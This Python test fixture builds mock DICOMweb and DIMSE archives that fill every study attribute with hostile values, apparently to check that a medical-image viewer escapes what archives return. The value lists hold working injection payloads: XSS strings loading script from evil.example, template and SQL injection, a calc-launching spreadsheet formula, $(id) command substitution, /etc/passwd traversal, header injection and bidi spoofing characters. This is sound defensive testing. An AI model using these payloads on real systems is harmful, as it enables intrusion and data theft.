"""Values that try to be more than text: what archives may hold, by malice or by mishap."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import Any, Final

from archives.embedded import EmbeddedArchive, Level, Query
from archives.embedded.index import VRS, Attributes
from archives.entities import Instance, Series, Study
from tests.dicomweb_server import Behaviour, DicomWebServer, Request

# What leaves the place that a value was written to ...
_BREAKS: Final = (
    *("", '">', "'>", '" ', "' ", "-->", "]]>", "`", "\\", "\n"),
    *(
        "</td></tr></table>",
        "</bdi></span></th>",
        "</textarea>",
        "</title>",
        "</script>",
    ),
)
# ... and what it does there.
_DEEDS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.gif>",
    "<svg onload=alert(1)>",
    "<svg><script xlink:href=//evil.example/x.js></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Open in Weasis</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "onmouseover=alert(1) autofocus tabindex=0 onfocus=alert(1) x=",
    "style=position:fixed;inset:0;background:red x=",
)
_OTHERS: Final = (
    # Addresses
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)"),
    *("data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)"),
    *("weasis://?%24dicom%3Aget%20-w%20%22http%3A%2F%2Fevil.example%22",),
    *("//evil.example/", "https://evil.example/", "file:///etc/passwd"),
    # Templates
    *("{{ 7|add:7 }}", "{% now 'Y' %}", "{% include 'base.html' %}", "${7*7}"),
    *("{{constructor.constructor('alert(1)')()}}", "<%= 7*7 %>", "#{7*7}", "%s%n%(x)s"),
    *("{0.__class__}", "$$(1)", "$& $1 $' $`", "%n", "%s"),
    # htmx
    *("<button hx-get=/x hx-trigger=load>x</button>", "<div hx-on:htmx:load=alert(1)>"),
    *('" hx-get="/x" hx-trigger="load" x="', '" data-weasis="javascript:alert(1)" x="'),
    *("<div data-launch class=launch data-weasis=weasis://evil>", '" data-chip x="'),
    *("<script data-hx-on:load=alert(1)>", '" autofocus hx-trigger="revealed" x="'),
    # Entities
    *("&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;"),
    *("&amp;lt;b&amp;gt;", "&NewLine;&Tab;&colon;", "&#0;&#x202e;&#1114112;", "&"),
    # Escapes, and what they stand for
    *(
        "\\u0000",
        "\\x00",
        "%00%0d%0aSet-Cookie:x=1",
        "a\\0b",
        "\r\nX-Header: 1",
        "\x1b[31m",
    ),
    *("\x00nul", "\x7f\x80\x9f", "\ufffe\uffff", "\ufffd", "+ADw-script+AD4-"),
    # Direction, and what can't be seen
    *(
        "\u202e<b>\u2066",
        "\u202egnp.exe\u202c",
        "\u2067\u2067\u2067open",
        "\u200f\u200f",
    ),
    *("\u202d\u202e\u202d\u202e" * 8, "\u2066" * 60, "\u061c\u200e\u200f"),
    *("\u200b" * 64, "a\u200bb\u200cc\u200dd\ufeff", "\u00ad" * 64, "\u3164", "\u2800"),
    *("\u2028x\u2029y", "\u034f" * 40, "\U000e0041\U000e0042\U000e007f"),
    # Stacks
    *(
        "Z" + "\u0300\u0321" * 30,
        "\u0e49" * 50,
        "a" + "\u20dd" * 30,
        "\u0644" + "\u0651" * 40,
    ),
    *("Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e" * 4,),
    # Wide and long
    *(
        "W" * 64,
        "1" * 64,
        "_" * 64,
        "\u0645" * 64,
        "漢" * 64,
        "\ufdfd" * 20,
        "\u2e3b" * 20,
    ),
    *(
        "W" * 1024,
        "long words " * 100,
        "a-" * 500,
        "😀" * 100,
        "x" * 5000,
        "i\u0307" * 300,
    ),
    *(
        "👩‍👩‍👧‍👦" * 20,
        "🏳️‍🌈🇨🇭" * 20,
        "😀\ufe0e😀\ufe0f",
        "\U0001f3f4\U000e0067\U000e007f",
    ),
    *("\n" * 200 + "x", "\t" * 100 + "x", " " * 500 + "x", "\v\f\u0085\u00a0" * 20),
    # Style
    *("expression(alert(1))", "url(//evil.example/x)", "</style><style>*{color:red}"),
    *(
        "position:fixed;top:0;left:0",
        "--accent:red;}",
        "/*",
        "*/ body{display:none} /*",
    ),
    # What other programs take for more than text
    *(
        "' OR 1=1 --",
        "'; DROP TABLE studies; --",
        "=cmd|' /C calc'!A0",
        "@SUM(1)",
        "$(id)",
    ),
    *(
        "`id`",
        "../../../../etc/passwd",
        "..\\..\\x",
        "%2e%2e%2f",
        "*)(uid=*",
        "\\\\evil\\x",
    ),
    *(
        "null",
        "undefined",
        "NaN",
        "true",
        "-1",
        "1e309",
        "[object Object]",
        "0x0",
        "__proto__",
    ),
    *(
        "None",
        "<null>",
        "[]",
        "{}",
        '{"a":1}',
        "]]",
        "<!--",
        "<!DOCTYPE x>",
        "<?xml?>",
        "<",
    ),
)
VALUES: Final = tuple(
    dict.fromkeys([*(a + b for a, b in product(_BREAKS, _DEEDS)), *_OTHERS])
)
_KEPT: Final = {"UI", "SQ"}


def uid(number: int) -> str:
    return f"1.2.826.0.1.{number}"


class HostileDicomWeb(DicomWebServer):
    """A study with its series for each value, which is in all of its attributes."""

    def __init__(self, values: dict[int, str]) -> None:
        studies = [
            Study(study_instance_uid=uid(number), series=(_series(number, 1),))
            for number in values
        ]
        super().__init__(studies, Behaviour(ignores_keys=True))
        self.values = values

    def _shown(self, match: dict, request: Request, level: str) -> dict:
        study_instance_uid = match["0020000D"]["Value"][0] if level == "studies" else ""
        for number, text in self.values.items():
            if uid(number) in {study_instance_uid, *request.path.split("/")}:
                return {
                    tag: element if element["vr"] in _KEPT else _element(element, text)
                    for tag, element in match.items()
                }
        return match


def _series(number: int, index: int) -> Series:
    series = f"{uid(number)}.{index}"
    return Series(
        series_instance_uid=series,
        modality="CT",
        instances=(Instance(sop_instance_uid=f"{series}.1"),),
    )


def _element(element: dict[str, Any], text: str) -> dict[str, Any]:
    if element["vr"] == "PN":
        return {"vr": "PN", "Value": [{"Alphabetic": _name(text)}]}
    return {"vr": element["vr"], "Value": [text]}


def _name(text: str) -> str:
    return f"Hostile^{text}"


class HostileDimse(EmbeddedArchive):
    """The same by DIMSE; the first study has a series for each value."""

    def __init__(self, values: dict[int, str]) -> None:
        super().__init__([])
        self.values = values

    def matches(self, query: Query) -> Iterator[Attributes]:
        wanted = query.keys.get(0x0020000D)
        for number, text in self.values.items():
            if query.level is not Level.STUDY and wanted == uid(min(self.values)):
                yield self._attributes(query, min(self.values), text, number)
            elif not wanted or wanted == uid(number):
                yield self._attributes(query, number, text, 1)

    def _attributes(
        self, query: Query, number: int, text: str, index: int
    ) -> Attributes:
        series = f"{uid(number)}.{index}"
        uids = {0x0020000D: uid(number), 0x0020000E: series, 0x00080018: f"{series}.1"}
        values = {
            tag: _name(text) if VRS.get(tag) == "PN" else text
            for tag in query.keys
            if VRS.get(tag) not in {None, "UI", "US"}
        }
        return {**values, **uids, 0x00080052: query.level, 0x00080005: "ISO_IR 192"}
